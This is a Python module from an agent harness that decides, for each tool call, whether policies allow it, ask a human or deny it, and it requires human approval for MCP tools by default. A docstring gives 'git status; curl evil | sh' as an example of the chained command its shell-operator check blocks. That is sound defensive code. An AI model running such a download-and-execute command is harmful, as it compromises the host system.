"""Tool permission policies, pure: which Policies govern an Agent, and what they decide for one
tool call. The harness asks before every call and logs the answer, so a resumed session never
decides a call twice (docs/control.md)."""

from __future__ import annotations

import fnmatch
from dataclasses import dataclass
from typing import Any

from cadre.api.limits import parse_duration
from cadre.api.names import MCP_TOOL_PREFIX
from cadre.api.policy import Decision, Hook, HookPoint, PolicySpec, ToolRule
from cadre.api.types import Obj

_STRICTNESS = {Decision.ALLOW: 0, Decision.ASK: 1, Decision.DENY: 2}
_CHAINING = (";", "&", "|", "`", "$(", "\n", ">", "<")
"""What joins or redirects commands in a shell: an ``Allow`` pattern matches a command holding
one only if the pattern holds it too, so ``git status*`` never allows
``git status; curl evil | sh``."""


def where(policy: str, rule: str) -> str:
    """Which rule decided, for people: ``Policy p, rule`` or ``the default``."""
    return f"Policy {policy}, {rule}" if policy else f"the default {rule}".strip()


MCP_DEFAULT = "mcpDefault"
MCP_MESSAGE = "MCP tools ask a human unless a Policy rule allows them"


@dataclass(frozen=True)
class ToolDecision:
    decision: Decision
    policy: str = ""
    rule: str = ""
    message: str = ""
    timeout_seconds: float = 1800.0
    on_timeout: str = "Reject"

    def explain(self) -> str:
        return where(self.policy, self.rule) + (f": {self.message}" if self.message else "")

    def to_event(self) -> Obj:
        return {"decision": self.decision.value, "policy": self.policy, "rule": self.rule,
                "message": self.message}  # fmt: skip


def _path_of(tool: str, input: Obj) -> str | None:
    path = input.get("path")
    if isinstance(path, str):
        return path.removeprefix("./")
    return "." if tool in ("glob", "grep") else None


def _command_matches(rule: ToolRule, command: str) -> bool:
    for pattern in rule.commands:
        if rule.decision == Decision.ALLOW and any(
            op in command and op not in pattern for op in _CHAINING
        ):
            continue
        if fnmatch.fnmatchcase(command.strip(), pattern):
            return True
    return False


def matches(rule: ToolRule, tool: str, input: Obj) -> bool:
    if tool not in rule.tools and "*" not in rule.tools:
        return False
    if rule.commands:
        command = input.get("command")
        if tool != "bash" or not isinstance(command, str) or not _command_matches(rule, command):
            return False
    if rule.paths:
        path = _path_of(tool, input)
        if path is None or not any(fnmatch.fnmatchcase(path, p) for p in rule.paths):
            return False
    return True


@dataclass(frozen=True)
class Governance:
    """The Policies that select one Agent, by name."""

    policies: tuple[tuple[str, PolicySpec], ...] = ()
    agent_labels: tuple[tuple[str, str], ...] = ()
    """The Agent's labels when the Policies were selected (hooks see them)."""

    @classmethod
    def select(cls, policies: list[Obj], agent_labels: dict[str, str]) -> Governance:
        """The Policies (objects as listed) whose selector matches the Agent's labels."""
        chosen = []
        for obj in policies:
            spec = PolicySpec.model_validate(obj.get("spec") or {})
            if spec.agent_selector.matches(agent_labels):
                chosen.append((str(obj["metadata"]["name"]), spec))
        return cls(tuple(sorted(chosen, key=lambda pair: pair[0])),
                   tuple(sorted(agent_labels.items())))  # fmt: skip

    @property
    def names(self) -> list[str]:
        return [name for name, _ in self.policies]

    def hooks(self, point: HookPoint, tool: str = "") -> list[tuple[str, Hook]]:
        """The hooks that run at ``point`` (for a call of ``tool``), Policies by name, hooks
        as written."""
        return [
            (name, hook)
            for name, spec in self.policies
            for hook in spec.hooks
            if hook.at == point and (not hook.tools or tool in hook.tools or "*" in hook.tools)
        ]

    @property
    def max_delivery_rounds(self) -> int:
        """The fewest send-backs any selecting Policy allows."""
        return min((spec.max_delivery_rounds for _, spec in self.policies), default=3)

    def decide(self, tool: str, input: Any) -> ToolDecision:
        """The first matching rule's decision (Policies by name, rules in order), else the
        strictest default of the selecting Policies; no Policy at all allows."""
        given: Obj = input if isinstance(input, dict) else {}
        for name, spec in self.policies:
            for index, rule in enumerate(spec.tool_rules):
                if matches(rule, tool, given):
                    return ToolDecision(
                        rule.decision, name, rule.name or f"rule {index + 1}", rule.message,
                        parse_duration(spec.approval.timeout), spec.approval.on_timeout.value,
                    )  # fmt: skip
        mcp = tool.startswith(MCP_TOOL_PREFIX)
        if not self.policies:
            # An MCP tool reaches outside the sandbox with a credential: a human says yes
            # first unless a Policy rule allows it.
            return ToolDecision(Decision.ASK, rule=MCP_DEFAULT, message=MCP_MESSAGE) if mcp else (
                ToolDecision(Decision.ALLOW))  # fmt: skip
        name, spec = max(self.policies, key=lambda pair: _STRICTNESS[pair[1].default_decision])
        timeout = parse_duration(spec.approval.timeout)
        if mcp and spec.default_decision == Decision.ALLOW:
            return ToolDecision(Decision.ASK, name, MCP_DEFAULT, MCP_MESSAGE, timeout,
                                spec.approval.on_timeout.value)  # fmt: skip
        return ToolDecision(spec.default_decision, name, "defaultDecision", "", timeout,
                            spec.approval.on_timeout.value)  # fmt: skip


@dataclass(frozen=True)
class ToolAnswer:
    """A human's answer to a call that asked (or the timeout's)."""

    approved: bool
    reason: str = ""
    by: str = "a human"


def answer_in(task: Obj, call_id: str) -> ToolAnswer | None:
    """The answer ``spec.toolApprovals`` holds for a call, if any."""
    found = ((task.get("spec") or {}).get("toolApprovals") or {}).get(call_id)
    if not isinstance(found, dict) or found.get("decision") not in ("Approved", "Rejected"):
        return None
    return ToolAnswer(found["decision"] == "Approved", str(found.get("reason") or ""))
